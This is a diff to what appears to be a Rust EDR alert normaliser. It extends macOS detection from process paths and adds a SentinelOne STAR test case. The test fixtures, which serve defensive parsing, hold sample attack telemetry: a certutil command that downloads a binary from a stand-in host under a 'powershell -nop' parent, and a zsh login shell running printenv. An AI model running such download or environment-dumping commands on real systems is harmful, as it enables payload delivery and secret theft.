@@ -1731,11 +1731,31 @@ fn derive(e: &mut Map<String, Json>) {
             _ if exe.len() > 2 && exe.as_bytes()[1] == b':' || exe.contains('\\') => {
                 Some("windows")
             }
-            _ if exe.starts_with("/System/")
-                || exe.starts_with("/Applications/")
-                || exe.starts_with("/Library/")
-                || exe.starts_with("/Users/")
-                || exe.starts_with("/private/") =>
+            // The process, its parent or grandparent, or its working directory in a place only
+            // macOS has (a mounted disk image, a home under /Users, launchd as the ancestor).
+            _ if [
+                "process.executable",
+                "process.parent.executable",
+                "process.parent.parent.executable",
+                "process.working_directory",
+            ]
+            .iter()
+            .filter_map(|k| get_str(&doc, k))
+            .any(|p| {
+                [
+                    "/System/",
+                    "/Applications/",
+                    "/Library/",
+                    "/Users/",
+                    "/private/",
+                    "/Volumes/",
+                    "/opt/homebrew/",
+                ]
+                .iter()
+                .any(|m| p.starts_with(m))
+                    || p == "/sbin/launchd"
+                    || p == "/usr/bin/osascript"
+            }) =>
             {
                 Some("macos")
             }
@@ -1967,6 +1987,21 @@ mod tests {
         assert_eq!(s1.doc["process"]["parent"]["parent"]["name"], "Terminal");
         assert_eq!(s1.doc["user"]["name"], "mara");
         assert_eq!(s1.doc["host"]["os"]["type"], "macos");
+        // A STAR alert from the management API: the source process started the target.
+        let star = from_json(json!({"alertInfo": {"alertId": "s1-9", "createdAt": "2025-03-11T08:58:14Z"},
+            "ruleInfo": {"name": "Login shell from a GUI app"},
+            "agentDetectionInfo": {"name": "MBP-R", "osFamily": "osx"},
+            "sourceProcessInfo": {"commandline": "/Applications/IDEA.app/Contents/MacOS/idea", "filePath": "/Applications/IDEA.app/Contents/MacOS/idea", "user": "rsingh"},
+            "sourceParentProcessInfo": {"commandline": "/sbin/launchd", "filePath": "/sbin/launchd"},
+            "targetProcessInfo": {"tgtFilePath": "/bin/zsh", "tgtProcCmdLine": "/bin/zsh -l -i -c printenv", "tgtProcPid": "3342"}}), "x").unwrap();
+        assert_eq!(star.id, "s1-9");
+        assert_eq!(star.doc["process"]["command_line"], "/bin/zsh -l -i -c printenv");
+        assert_eq!(star.doc["process"]["pid"], 3342);
+        assert_eq!(star.doc["process"]["parent"]["name"], "idea");
+        assert_eq!(star.doc["process"]["parent"]["parent"]["executable"], "/sbin/launchd");
+        assert_eq!(star.doc["user"]["name"], "rsingh");
+        assert_eq!(star.doc["host"]["os"]["type"], "macos");
+        assert_eq!(star.doc["rule"]["name"], "Login shell from a GUI app");
         let cb = from_json(json!({"id": "cb-1", "device_name": "HR-LT-207", "device_os": "WINDOWS",
             "process_name": "certutil.exe", "process_cmdline": "certutil.exe -urlcache -f http://x.example/p.bin p.exe",
             "process_username": "CONTOSO\\lena", "parent_name": "powershell.exe", "parent_cmdline": "powershell.exe -nop",
